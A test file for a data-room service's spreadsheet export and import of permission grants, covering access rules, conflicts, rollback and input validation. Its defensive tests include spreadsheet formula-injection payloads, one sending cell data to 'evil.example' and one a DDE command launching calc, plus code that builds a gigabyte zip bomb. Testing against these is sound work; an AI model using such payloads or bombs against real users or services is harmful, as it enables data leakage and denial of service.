import { randomUUID } from 'node:crypto';
import zlib from 'node:zlib';
import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { Client, startTestApp, type TestApp } from '../support/test-app.js';
import { buildDeal, PASSWORD, visibleDocumentIds, type Deal } from '../support/world.js';
import { binary } from '../support/binary.js';
import { makePdf } from '../support/fixtures.js';

/**
 * The permission matrix (docs/http-api.md, "Staged disclosure and the document lifecycle"): the
 * room's grants as a spreadsheet the deal team edits, and back. The deal's sheet reads:
 *   row 3 Whole room, row 4 "1 Finance", row 5 "1.1 Payroll", row 6 "2 Legal";
 *   column D Bidder A, column E Bidder B (row 2, hidden, holds their ids; column C the folders').
 */
let t: TestApp;
let deal: Deal;

beforeEach(async () => {
  t = await startTestApp();
  deal = await buildDeal(t);
});
afterEach(() => t.close());

const exportMatrix = (client: Client = deal.manager) => client.get(`${deal.roomPath}/grants.xlsx`).buffer(true).parse(binary);
const importMatrix = (data: Buffer, dryRun: boolean, client: Client = deal.manager) =>
  client.upload(`${deal.roomPath}/grants/import?dryRun=${dryRun}`, { data, name: 'permissions.xlsx' });

async function exported(): Promise<Buffer> {
  const res = await exportMatrix();
  expect(res.status).toBe(200);
  return res.body as Buffer;
}

async function workbookOf(data: Buffer): Promise<ExcelJS.Workbook> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(new Uint8Array(data).buffer);
  return workbook;
}

/** The export as a person edits it: opened, cells changed, saved again (by exceljs, with shared strings, as Excel saves). */
async function edited(data: Buffer, edits: Record<string, ExcelJS.CellValue>): Promise<Buffer> {
  const workbook = await workbookOf(data);
  const sheet = workbook.getWorksheet('Permissions')!;
  for (const [address, value] of Object.entries(edits)) sheet.getCell(address).value = value;
  return Buffer.from(await workbook.xlsx.writeBuffer());
}

/** The room's grants as terms, for comparing before and after (ids apart). */
async function grantTerms() {
  const res = await deal.manager.get(`${deal.roomPath}/grants`).expect(200);
  return (res.body.items as Array<{ id: string; partyId: string; folderId: string | null; level: string; maxClassification: string; maxPersonalData: string; expiresAt: string | null }>)
    .map((g) => ({ id: g.id, partyId: g.partyId, folderId: g.folderId, terms: `${g.level}/${g.maxClassification}/${g.maxPersonalData}${g.expiresAt ? `/${g.expiresAt}` : ''}` }))
    .sort((a, b) => (a.id < b.id ? -1 : 1));
}

const ledgerCount = async (action?: string) => Number((await t.db('auditEvents').where(action ? { action } : {}).count({ n: '*' }))[0].n);

describe('GET /api/rooms/:roomId/grants.xlsx', () => {
  it('writes a row per folder in index order after the whole room, a column per party, and each cell of grants', async () => {
    await deal.grant({ partyId: deal.parties.A.id, folderId: deal.folders.finance.id, level: 'download', maxClassification: 'confidential', maxPersonalData: 'none' });
    await deal.grant({ partyId: deal.parties.A.id, folderId: deal.folders.legal.id, level: 'download', maxClassification: 'standard', maxPersonalData: 'none' });
    await deal.grant({ partyId: deal.parties.A.id, folderId: deal.folders.legal.id, level: 'view', maxClassification: 'highly_confidential', maxPersonalData: 'none' });
    await deal.grant({ partyId: deal.parties.B.id, folderId: null, level: 'view', maxClassification: 'standard', maxPersonalData: 'pseudonymised', expiresAt: '2027-03-31T02:00:00+02:00' });
    // Renumbered: Legal moves before Finance, so the rows follow the index, not the creation order.
    await deal.manager.patch(`${deal.roomPath}/folders/${deal.folders.legal.id}`, { position: 1 }).expect(200);

    const res = await exportMatrix();
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename="Project Falcon permissions \d{4}-\d{2}-\d{2}\.xlsx"$/);
    expect(res.headers['cache-control']).toBe('no-store');

    const sheet = (await workbookOf(res.body)).getWorksheet('Permissions')!;
    const rows = [1, 3, 4, 5, 6].map((r) => [1, 2, 4, 5].map((c) => sheet.getCell(r, c).text));
    expect(rows).toEqual([
      ['Index', 'Folder', 'Bidder A', 'Bidder B'],
      ['', 'Whole room', '', 'view/standard/pseudonymised/2027-03-31T00:00:00.000Z'],
      ['1', 'Legal', 'download/standard/none; view/highly_confidential/none', ''],
      ['2', 'Finance', 'download/confidential/none', ''],
      ['2.1', 'Payroll', '', ''],
    ]);
    expect(sheet.actualRowCount).toBe(6);
    // The ids the import goes by: hidden, in column C and row 2.
    expect([3, 4, 5, 6].map((r) => sheet.getCell(r, 3).text)).toEqual(['room', deal.folders.legal.id, deal.folders.finance.id, deal.folders.payroll.id]);
    expect([sheet.getCell('D2').text, sheet.getCell('E2').text, sheet.getCell('B2').text]).toEqual([deal.parties.A.id, deal.parties.B.id, deal.room.id]);
    expect(sheet.getColumn(3).hidden).toBe(true);
    expect(sheet.getRow(2).hidden).toBe(true);
    // Only grant cells take typing.
    expect(sheet.getCell('D4').protection?.locked).toBe(false);
    expect(sheet.getCell('B4').protection?.locked).not.toBe(false);
  });

  it('writes names that would start a formula as text with an apostrophe, and no formula anywhere', async () => {
    const gamma = (await deal.admin.post('/api/orgs', { name: 'Gamma', kind: 'acquirer' }).expect(201)).body.id;
    const hostileParty = '=HYPERLINK("http://evil.example/?"&A1,"Open")';
    await deal.manager.post(`${deal.roomPath}/parties`, { name: hostileParty, acquirerOrgId: gamma }).expect(201);
    for (const name of ['+SUM(1,2)', '-2+3', '@cmd|"/c calc"!A1']) await deal.manager.post(`${deal.roomPath}/folders`, { name }).expect(201);

    const data = await exported();
    const sheet = (await workbookOf(data)).getWorksheet('Permissions')!;
    expect(sheet.getCell('F1').value).toBe(`'${hostileParty}`);
    expect([7, 8, 9].map((r) => sheet.getCell(r, 2).value)).toEqual(["'+SUM(1,2)", "'-2+3", `'@cmd|"/c calc"!A1`]);
    sheet.eachRow((row) => row.eachCell((cell) => expect(cell.type).not.toBe(ExcelJS.ValueType.Formula)));
    const zip = await JSZip.loadAsync(data);
    for (const name of Object.keys(zip.files).filter((n) => n.startsWith('xl/worksheets/'))) {
      expect(await zip.file(name)!.async('string')).not.toMatch(/<f[ >]/);
    }
    // The escaped names are for reading only: the file imports as no change.
    const res = await importMatrix(data, true);
    expect(res.status).toBe(200);
    expect(res.body.changes).toEqual([]);
  });

  it('answers outsiders exactly as GET …/grants does, and lets counsel export', async () => {
    const outsiderOrg = (await deal.admin.post('/api/orgs', { name: 'Outsider Partners', kind: 'acquirer' }).expect(201)).body.id;
    await deal.admin.post('/api/users', { email: 'otto@outsider.example', name: 'Otto Outsider', password: PASSWORD, orgId: outsiderOrg, role: 'external' }).expect(201);
    await deal.admin.post('/api/users', { email: 'sara@seller.example', name: 'Sara Staff', password: PASSWORD, orgId: deal.orgs.sellerOrgId, role: 'staff' }).expect(201);
    await deal.nda({ orgId: deal.orgs.alpha.id, entityIds: [deal.entities.gmbh.id] });
    const callers = {
      buyerA: await deal.login('buyerA'),
      buyerB: await deal.login('buyerB'),
      outsider: await Client.login(t.app, 'otto@outsider.example', PASSWORD),
      staffOutsideTheRoom: await Client.login(t.app, 'sara@seller.example', PASSWORD),
    };
    for (const [who, client] of Object.entries(callers)) {
      const list = await client.get(`${deal.roomPath}/grants`);
      const matrix = await exportMatrix(client);
      expect([who, matrix.status]).toEqual([who, list.status]);
      expect(JSON.parse(matrix.body.toString('utf8'))).toEqual(list.body);
      // A room that does not exist reads alike for those who may not see this one.
      if (matrix.status === 404) expect((await client.get(`/api/rooms/${randomUUID()}/grants.xlsx`)).body).toEqual(list.body);
    }
    expect((await callers.buyerB.get(`${deal.roomPath}/grants.xlsx`)).status).toBe(403);
    expect((await callers.staffOutsideTheRoom.get(`${deal.roomPath}/grants.xlsx`)).status).toBe(404);
    expect((await callers.buyerA.get(`${deal.roomPath}/grants.xlsx`)).status).toBe(403);
    expect((await callers.outsider.get(`${deal.roomPath}/grants.xlsx`)).status).toBe(404);

    const counsel = await exportMatrix(deal.counsel);
    expect(counsel.status).toBe(200);
    expect((await workbookOf(counsel.body)).getWorksheet('Permissions')!.getCell('D1').text).toBe('Bidder A');
    expect(Number((await t.db('auditEvents').where({ action: 'grant.export', decision: 'allow' }).count({ n: '*' }))[0].n)).toBe(1);
  });
});

describe('POST /api/rooms/:roomId/grants/import', () => {
  it('imports its own export as no change at all', async () => {
    await deal.grant({ partyId: deal.parties.A.id, folderId: deal.folders.finance.id, level: 'view', maxClassification: 'standard', maxPersonalData: 'none' });
    await deal.grant({ partyId: deal.parties.A.id, folderId: deal.folders.finance.id, level: 'view', maxClassification: 'standard', maxPersonalData: 'none' });
    await deal.grant({ partyId: deal.parties.B.id, folderId: null, level: 'original', maxClassification: 'clean_team', maxPersonalData: 'identified', expiresAt: '2020-01-01T00:00:00.000Z' });
    const before = await grantTerms();
    const data = await edited(await exported(), {});

    const dry = await importMatrix(data, true);
    expect(dry.status).toBe(200);
    expect(dry.body).toMatchObject({ dryRun: true, created: 0, deleted: 0, changes: [] });
    expect(dry.body.exposure.map((e: { name: string; gained: number; lost: number }) => [e.name, e.gained, e.lost])).toEqual([['Bidder A', 0, 0], ['Bidder B', 0, 0]]);

    const applied = await importMatrix(data, false);
    expect(applied.status).toBe(200);
    expect(applied.body).toMatchObject({ dryRun: false, created: 0, deleted: 0, changes: [] });
    expect(await grantTerms()).toEqual(before);
    expect(await ledgerCount('grant.create')).toBe(3);
    expect(await ledgerCount('grant.delete')).toBe(0);
  });

  it('shows an edited cell and what each party would gain on a dry run, drafts left out, and changes nothing', async () => {
    await deal.nda({ orgId: deal.orgs.alpha.id, entityIds: [deal.entities.gmbh.id, deal.entities.ltd.id] });
    await deal.grant({ partyId: deal.parties.A.id, folderId: deal.folders.finance.id, level: 'view', maxClassification: 'standard', maxPersonalData: 'none' });
    // A draft with personal data below Finance: no one's outside the deal team, whatever the grants say.
    await deal.manager.patch(deal.roomPath, { uploadsStartAs: 'draft' }).expect(200);
    await deal.manager
      .upload(`${deal.roomPath}/documents`, { data: await makePdf('Draft salaries'), name: 'salaries.pdf' }, { folderId: deal.folders.payroll.id, entityId: deal.entities.gmbh.id, classification: 'confidential', personalData: 'identified' })
      .expect(201);
    const buyerA = await deal.login('buyerA');
    expect(await visibleDocumentIds(deal, buyerA)).toEqual([deal.docs.finance.id]);
    const file = await edited(await exported(), { D4: 'view/confidential/identified' });
    const grantsBefore = await grantTerms();
    const ledgerBefore = await ledgerCount();

    const res = await importMatrix(file, true);
    expect(res.status).toBe(200);
    expect(res.body.changes).toEqual([
      {
        kind: 'changed',
        cell: 'D4',
        partyId: deal.parties.A.id,
        partyName: 'Bidder A',
        folderId: deal.folders.finance.id,
        folderIndex: '1',
        folderName: 'Finance',
        before: 'view/standard/none',
        after: 'view/confidential/identified',
        created: ['view/confidential/identified'],
        deleted: ['view/standard/none'],
      },
    ]);
    expect(res.body.exposure).toEqual([
      { partyId: deal.parties.A.id, name: 'Bidder A', gained: 1, lost: 0, gainedPersonalData: 1, gainedHighlyConfidential: 0, lostPersonalData: 0, lostHighlyConfidential: 0, viewableBefore: 1, viewableAfter: 2 },
      { partyId: deal.parties.B.id, name: 'Bidder B', gained: 0, lost: 0, gainedPersonalData: 0, gainedHighlyConfidential: 0, lostPersonalData: 0, lostHighlyConfidential: 0, viewableBefore: 0, viewableAfter: 0 },
    ]);
    expect(await grantTerms()).toEqual(grantsBefore);
    expect(await ledgerCount()).toBe(ledgerBefore);
    expect(await visibleDocumentIds(deal, buyerA)).toEqual([deal.docs.finance.id]);
  });

  it('applies the edits in one go, records each grant as the grants service does, and the parties see accordingly', async () => {
    await deal.nda({ orgId: deal.orgs.alpha.id, entityIds: [deal.entities.gmbh.id, deal.entities.ltd.id] });
    const financeGrant = await deal.grant({ partyId: deal.parties.A.id, folderId: deal.folders.finance.id, level: 'view', maxClassification: 'standard', maxPersonalData: 'none' });
    const legalDownload = await deal.grant({ partyId: deal.parties.A.id, folderId: deal.folders.legal.id, level: 'download', maxClassification: 'standard', maxPersonalData: 'none' });
    await deal.grant({ partyId: deal.parties.A.id, folderId: deal.folders.legal.id, level: 'view', maxClassification: 'highly_confidential', maxPersonalData: 'none' });
    const buyerA = await deal.login('buyerA');
    expect(await visibleDocumentIds(deal, buyerA)).toEqual([deal.docs.finance.id, deal.docs.legal.id].sort());
    const data = await exported();
    // Renamed since the export: rows go by the folder's id, and the report names it as it is now.
    await deal.manager.patch(`${deal.roomPath}/folders/${deal.folders.finance.id}`, { name: 'Finance & Tax' }).expect(200);

    const file = await edited(data, {
      D4: 'view/confidential/identified',
      D6: 'download/standard/none',
      E3: 'View / Standard / None / 2027-03-31T02:00:00+02:00',
    });
    const res = await importMatrix(file, false);
    expect(res.status).toBe(200);
    expect(res.body).toMatchObject({ dryRun: false, created: 2, deleted: 2 });
    expect(res.body.changes.map((c: Record<string, unknown>) => [c.cell, c.kind, c.partyName, c.folderIndex, c.folderName, c.before, c.after])).toEqual([
      ['E3', 'created', 'Bidder B', null, null, null, 'view/standard/none/2027-03-31T00:00:00.000Z'],
      ['D4', 'changed', 'Bidder A', '1', 'Finance & Tax', 'view/standard/none', 'view/confidential/identified'],
      ['D6', 'changed', 'Bidder A', '2', 'Legal', 'download/standard/none; view/highly_confidential/none', 'download/standard/none'],
    ]);

    const grants = await grantTerms();
    expect(grants.map((g) => [g.partyId, g.folderId, g.terms]).sort()).toEqual(
      [
        [deal.parties.A.id, deal.folders.finance.id, 'view/confidential/identified'],
        [deal.parties.A.id, deal.folders.legal.id, 'download/standard/none'],
        [deal.parties.B.id, null, 'view/standard/none/2027-03-31T00:00:00.000Z'],
      ].sort(),
    );
    // What stayed alike in a cell kept its grant; what changed was deleted and created.
    expect(grants.some((g) => g.id === legalDownload.id)).toBe(true);
    expect(grants.some((g) => g.id === financeGrant.id)).toBe(false);
    expect(await visibleDocumentIds(deal, buyerA)).toEqual([deal.docs.finance.id, deal.docs.payroll.id, deal.docs.legal.id].sort());

    const events = await t.db('auditEvents').whereIn('action', ['grant.create', 'grant.delete', 'grant.import']).where('seq', '>', 0).orderBy('seq').select('action', 'subjectId', 'details');
    const imported = events.slice(-5);
    expect(imported.map((e: { action: string }) => e.action)).toEqual(['grant.delete', 'grant.delete', 'grant.create', 'grant.create', 'grant.import']);
    expect(imported[0].subjectId).toBe(financeGrant.id);
    const detailsOf = (e: { details: unknown }) => (typeof e.details === 'string' ? JSON.parse(e.details) : e.details);
    const created = detailsOf(imported[2]);
    expect(created).toMatchObject({ partyId: expect.any(String), level: expect.any(String), maxClassification: expect.any(String), maxPersonalData: expect.any(String) });
    expect(detailsOf(imported[4])).toMatchObject({ cells: 3, created: 2, deleted: 2 });
  });

  it('refuses every bad cell, naming it, and applies nothing of the file', async () => {
    await deal.grant({ partyId: deal.parties.A.id, folderId: deal.folders.finance.id, level: 'view', maxClassification: 'standard', maxPersonalData: 'none' });
    const before = await grantTerms();
    const data = await exported();
    const ledgerBefore = await ledgerCount();
    const file = await edited(data, {
      D4: '', // a good edit among bad ones: not applied either
      D5: 'veiw/standard/none',
      E5: 'view/secret/none',
      D6: 'view/standard/everything',
      E6: 'view/standard/none/31.03.2027',
      E4: 'view/standard',
      D3: { formula: 'E3', result: 'view/standard/none' },
      E3: 42,
      F2: randomUUID(),
      F4: 'view/standard/none',
      G5: 'download/standard/none',
      C7: randomUUID(),
      D7: 'view/standard/none',
      D8: 'view/standard/none',
    });
    for (const dryRun of [true, false]) {
      const res = await importMatrix(file, dryRun);
      expect(res.status).toBe(400);
      expect(res.body.error.code).toBe('invalid_request');
      const cells = res.body.error.details.cells as Array<{ sheet: string; cell: string; message: string }>;
      expect(cells.every((c) => c.sheet === 'Permissions')).toBe(true);
      expect(cells.map((c) => [c.cell, c.message])).toEqual([
        ['F2', expect.stringMatching(/^unknown party/)],
        ['D3', expect.stringMatching(/formula/)],
        ['E3', expect.stringMatching(/a number/)],
        ['E4', expect.stringMatching(/is not a grant/)],
        ['D5', expect.stringMatching(/unknown level "veiw"/)],
        ['E5', expect.stringMatching(/unknown classification "secret"/)],
        ['G5', expect.stringMatching(/column without a party/)],
        ['D6', expect.stringMatching(/unknown personal data value "everything"/)],
        ['E6', expect.stringMatching(/malformed expiry date "31.03.2027"/)],
        ['C7', expect.stringMatching(/^unknown folder/)],
        ['D8', expect.stringMatching(/row without a folder/)],
      ]);
    }
    expect(await grantTerms()).toEqual(before);
    expect(await ledgerCount()).toBe(ledgerBefore);
  });

  it("refuses a file exported before the room's grants changed, so that change is not undone", async () => {
    const data = await exported();
    const meanwhile = await deal.grant({ partyId: deal.parties.B.id, folderId: deal.folders.legal.id, level: 'view', maxClassification: 'standard', maxPersonalData: 'none' });
    const stale = await edited(data, { D4: 'view/standard/none' });
    for (const dryRun of [true, false]) {
      const res = await importMatrix(stale, dryRun);
      expect(res.status).toBe(409);
      expect(res.body.error.code).toBe('conflict');
    }
    expect((await grantTerms()).map((g) => g.id)).toEqual([meanwhile.id]);

    // Exported again, the change made meanwhile is in the file, and the edit goes in beside it.
    const fresh = await edited(await exported(), { D4: 'view/standard/none' });
    expect((await importMatrix(fresh, false)).status).toBe(200);
    expect((await grantTerms()).map((g) => [g.partyId, g.folderId]).sort()).toEqual([[deal.parties.A.id, deal.folders.finance.id], [deal.parties.B.id, deal.folders.legal.id]].sort());
    // The same file again is stale now: the import itself changed the grants.
    expect((await importMatrix(fresh, false)).status).toBe(409);
  });

  it('applies one of two imports of the same file at once, and keeps a grant created meanwhile', async () => {
    const file = await edited(await exported(), { D4: 'view/standard/none', E6: 'download/standard/none' });
    const [first, second, created] = await Promise.all([
      importMatrix(file, false),
      importMatrix(file, false),
      deal.manager.post(`${deal.roomPath}/grants`, { partyId: deal.parties.B.id, folderId: null, level: 'view', maxClassification: 'standard', maxPersonalData: 'none' }),
    ]);
    expect(created.status).toBe(201);
    const statuses = [first.status, second.status].sort();
    // The grant created at the same moment lands before an import (which then finds the file stale) or after it.
    expect([[200, 409], [409, 409]]).toContainEqual(statuses);
    const grants = (await grantTerms()).map((g) => [g.partyId, g.folderId, g.terms]).sort();
    const wholeRoom = [deal.parties.B.id, null, 'view/standard/none'];
    if (statuses[0] === 200) {
      expect(grants).toEqual([[deal.parties.A.id, deal.folders.finance.id, 'view/standard/none'], wholeRoom, [deal.parties.B.id, deal.folders.legal.id, 'download/standard/none']].sort());
    } else {
      expect(grants).toEqual([wholeRoom]);
    }
    expect(await ledgerCount('grant.import')).toBe(statuses[0] === 200 ? 1 : 0);
  });

  // SQLite needs no such test: its transactions take the one write lock at their start.
  (process.env.TEST_DATABASE_URL ? it : it.skip)('waits for a grant change under way, then refuses the file it made stale (PostgreSQL)', async () => {
    const file = await edited(await exported(), { D4: 'view/standard/none' });
    const meanwhile = randomUUID();
    const trx = await t.db.transaction();
    let res: Awaited<ReturnType<typeof importMatrix>>;
    try {
      await trx('grants').insert({ id: meanwhile, roomId: deal.room.id, partyId: deal.parties.B.id, folderId: null, levelRank: 0, maxClassificationRank: 0, maxPersonalDataRank: 0, expiresAt: null, createdBy: deal.manager.user.id, createdAt: new Date().toISOString() });
      const pending = importMatrix(file, false).then((r) => r);
      // The import has checked the file against the grants it could read (not this one, uncommitted) and now waits for the table.
      for (let i = 0; i < 400; i++) {
        const waiting = await t.db.raw("select count(*)::int as n from pg_stat_activity where wait_event_type = 'Lock' and query ilike 'lock table grants%'");
        if (waiting.rows[0].n > 0) break;
        await new Promise((resolve) => setTimeout(resolve, 25));
      }
      await trx.commit();
      res = await pending;
    } finally {
      if (!trx.isCompleted()) await trx.rollback();
    }
    expect(res.status).toBe(409);
    expect((await grantTerms()).map((g) => g.id)).toEqual([meanwhile]);
  });

  it('leaves everything as it was when the database fails halfway through applying', async () => {
    const kept = await deal.grant({ partyId: deal.parties.A.id, folderId: deal.folders.finance.id, level: 'view', maxClassification: 'standard', maxPersonalData: 'none' });
    const file = await edited(await exported(), { D4: '', D6: 'original/standard/none' });
    const ledgerBefore = await ledgerCount();
    // The fault: the database refuses the grant the import creates, after the import has deleted one.
    await injectFaultOnOriginalGrants();
    const res = await importMatrix(file, false);
    expect(res.status).toBe(500);
    expect((await grantTerms()).map((g) => g.id)).toEqual([kept.id]);
    expect(await ledgerCount()).toBe(ledgerBefore);
  });

  it('leaves grants alone where the file holds no row or column of theirs', async () => {
    await deal.grant({ partyId: deal.parties.A.id, folderId: deal.folders.legal.id, level: 'view', maxClassification: 'standard', maxPersonalData: 'none' });
    await deal.grant({ partyId: deal.parties.B.id, folderId: deal.folders.finance.id, level: 'view', maxClassification: 'standard', maxPersonalData: 'none' });
    const workbook = await workbookOf(await exported());
    const sheet = workbook.getWorksheet('Permissions')!;
    sheet.spliceRows(6, 1); // Legal's row
    sheet.spliceColumns(5, 1); // Bidder B's column
    sheet.getCell('D5').value = 'download/standard/none';
    const res = await importMatrix(Buffer.from(await workbook.xlsx.writeBuffer()), false);
    expect(res.status).toBe(200);
    expect(res.body.changes.map((c: { cell: string; kind: string }) => [c.cell, c.kind])).toEqual([['D5', 'created']]);
    expect((await grantTerms()).map((g) => [g.partyId, g.folderId, g.terms]).sort()).toEqual(
      [
        [deal.parties.A.id, deal.folders.legal.id, 'view/standard/none'],
        [deal.parties.A.id, deal.folders.payroll.id, 'download/standard/none'],
        [deal.parties.B.id, deal.folders.finance.id, 'view/standard/none'],
      ].sort(),
    );
  });

  it('lets only managers import: counsel gets 403, outsiders the answers of POST …/grants', async () => {
    const data = await edited(await exported(), { D4: 'view/standard/none' });
    const counsel = await importMatrix(data, true, deal.counsel);
    expect(counsel.status).toBe(403);
    expect(counsel.body.error.code).toBe('forbidden');
    await deal.nda({ orgId: deal.orgs.alpha.id, entityIds: [deal.entities.gmbh.id] });
    for (const who of ['buyerA', 'buyerB'] as const) {
      const client = await deal.login(who);
      const create = await client.post(`${deal.roomPath}/grants`, { partyId: deal.parties.A.id, folderId: null, level: 'view', maxClassification: 'standard', maxPersonalData: 'none' });
      const res = await importMatrix(data, false, client);
      expect([who, res.status, res.body]).toEqual([who, create.status, create.body]);
    }
    expect((await importMatrix(data, false)).status).toBe(200);
    const elsewhere = await deal.manager.upload(`/api/rooms/${randomUUID()}/grants/import?dryRun=true`, { data, name: 'permissions.xlsx' });
    expect(elsewhere.status).toBe(404);
  });

  it('refuses a file that is not a matrix it can read safely, naming the file or the cell', async () => {
    const pdf = await importMatrix(await makePdf('not a spreadsheet'), true);
    expect(pdf.status).toBe(400);
    expect(pdf.body.error.details.file).toMatch(/not a zip archive/);

    const csv = await importMatrix(Buffer.from('Index,Folder\n1,Finance\n'), true);
    expect(csv.status).toBe(400);
    expect(csv.body.error.details.file).toBeDefined();

    const plain = new ExcelJS.Workbook();
    plain.addWorksheet('Permissions').getCell('A1').value = 'Index';
    const notOurs = await importMatrix(Buffer.from(await plain.xlsx.writeBuffer()), true);
    expect(notOurs.status).toBe(400);
    expect(notOurs.body.error.details.file).toMatch(/not a permission matrix/);

    const otherRoom = await importMatrix(await edited(await exported(), { B2: randomUUID() }), true);
    expect(otherRoom.status).toBe(400);
    expect(otherRoom.body.error.details.cells).toEqual([{ sheet: 'Permissions', cell: 'B2', message: expect.stringMatching(/another room/) }]);

    // A zip bomb: a sheet of a few kilobytes that inflates to a gigabyte.
    const bomb = zipOf([{ name: 'xl/worksheets/sheet1.xml', deflated: deflatedZeros(1024), size: 2 ** 30 }]);
    const startedAt = Date.now();
    const bombed = await importMatrix(bomb, true);
    expect(bombed.status).toBe(400);
    expect(bombed.body.error.details.file).toMatch(/unpacks to more than/);
    expect(Date.now() - startedAt).toBeLessThan(10_000);

    // Past the caps on rows and columns: refused at the first such cell, before the sheet is held.
    const far = await edited(await exported(), { D30000: 'view/standard/none' });
    const tooLong = await importMatrix(far, true);
    expect(tooLong.status).toBe(400);
    expect(tooLong.body.error.details.cells).toEqual([{ sheet: 'Permissions', cell: 'D30000', message: expect.stringMatching(/at most 20003 rows/) }]);
    const wide = await importMatrix(await edited(await exported(), { ZZ4: 'view/standard/none' }), true);
    expect(wide.status).toBe(400);
    expect(wide.body.error.details.cells[0].cell).toBe('ZZ4');

    const huge = await importMatrix(Buffer.alloc(10 * 2 ** 20 + 1, 1), true);
    expect(huge.status).toBe(413);

    const noFile = await deal.manager.post(`${deal.roomPath}/grants/import?dryRun=true`, {});
    expect(noFile.status).toBe(415);
    const badQuery = await deal.manager.upload(`${deal.roomPath}/grants/import?dryRun=maybe`, { data: await exported(), name: 'permissions.xlsx' });
    expect(badQuery.status).toBe(400);
    expect(badQuery.body.error.details.dryRun).toBeDefined();
    expect((await deal.manager.get(`${deal.roomPath}/grants`)).status).toBe(200);
  });

  it('exports and imports a room of 2,000 folders and 20 parties', async () => {
    const at = new Date().toISOString();
    const folders = Array.from({ length: 2_000 }, (_, i) => ({ id: randomUUID(), roomId: deal.room.id, parentId: null as string | null, name: `Folder ${i}`, position: i + 4, createdAt: at }));
    // Every tenth folder below the one before it, so the tree has depth.
    for (let i = 1; i < folders.length; i += 10) {
      folders[i].parentId = folders[i - 1].id;
      folders[i].position = 1;
    }
    for (let i = 0; i < folders.length; i += 200) await t.db('folders').insert(folders.slice(i, i + 200));
    const parties = [];
    for (let p = 0; p < 18; p++) {
      const orgId = randomUUID();
      await t.db('orgs').insert({ id: orgId, name: `Bidder org ${p}`, kind: 'acquirer', createdAt: at });
      parties.push({ id: randomUUID(), roomId: deal.room.id, name: `Bidder ${p + 3}`, acquirerOrgId: orgId, createdAt: at });
    }
    await t.db('parties').insert(parties);
    const grants = parties.flatMap((p, n) =>
      folders
        .filter((_, i) => i % 5 === n % 5)
        .map((f) => ({ id: randomUUID(), roomId: deal.room.id, partyId: p.id, folderId: f.id, levelRank: 0, maxClassificationRank: 1, maxPersonalDataRank: 0, expiresAt: null, createdBy: deal.manager.user.id, createdAt: at })),
    );
    for (let i = 0; i < grants.length; i += 200) await t.db('grants').insert(grants.slice(i, i + 200));

    const data = await exported();
    const sheet = (await workbookOf(data)).getWorksheet('Permissions')!;
    expect(sheet.actualRowCount).toBe(2 + 1 + 3 + 2_000);
    expect(sheet.getRow(2).cellCount).toBe(3 + 20);

    const unchanged = await importMatrix(data, true);
    expect(unchanged.status).toBe(200);
    expect(unchanged.body.changes).toEqual([]);

    const edits: Record<string, string> = {};
    for (let r = 10; r < 110; r++) edits[`F${r}`] = 'download/standard/none';
    const res = await importMatrix(await edited(data, edits), false);
    expect(res.status).toBe(200);
    expect(res.body.changes).toHaveLength(100);
    expect(Number((await t.db('grants').where({ roomId: deal.room.id }).count({ n: '*' }))[0].n)).toBe(grants.length - res.body.deleted + res.body.created);
  });
});

/** A database fault for the next insert of a grant at level `original` (a trigger: the database itself refuses). */
async function injectFaultOnOriginalGrants() {
  if (t.db.client.config.client === 'pg') {
    await t.db.raw("create function inject_grant_fault() returns trigger language plpgsql as $$ begin if new.level_rank = 2 then raise exception 'injected fault'; end if; return new; end $$");
    await t.db.raw('create trigger inject_grant_fault before insert on grants for each row execute function inject_grant_fault()');
  } else {
    await t.db.raw("create trigger inject_grant_fault before insert on grants when new.level_rank = 2 begin select raise(abort, 'injected fault'); end");
  }
}

/**
 * `mebibytes` of zeros, deflated without allocating them: after a full flush a deflater starts
 * afresh, so one mebibyte's flushed output repeated, then an empty final block, inflates to that
 * many mebibytes.
 */
function deflatedZeros(mebibytes: number): Buffer {
  const oneMiB = zlib.deflateRawSync(Buffer.alloc(2 ** 20), { finishFlush: zlib.constants.Z_FULL_FLUSH });
  return Buffer.concat([...Array<Buffer>(mebibytes).fill(oneMiB), zlib.deflateRawSync(Buffer.alloc(0))]);
}

/** A zip archive of deflated entries (CRCs left zero: the reader does not check them before the budget stops it). */
function zipOf(entries: Array<{ name: string; deflated: Buffer; size: number }>): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const e of entries) {
    const name = Buffer.from(e.name);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(8, 8);
    local.writeUInt32LE(e.deflated.length, 18);
    local.writeUInt32LE(e.size, 22);
    local.writeUInt16LE(name.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(8, 10);
    central.writeUInt32LE(e.deflated.length, 20);
    central.writeUInt32LE(e.size, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, name, e.deflated);
    centrals.push(central, name);
    offset += 30 + name.length + e.deflated.length;
  }
  const directory = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, directory, end]);
}
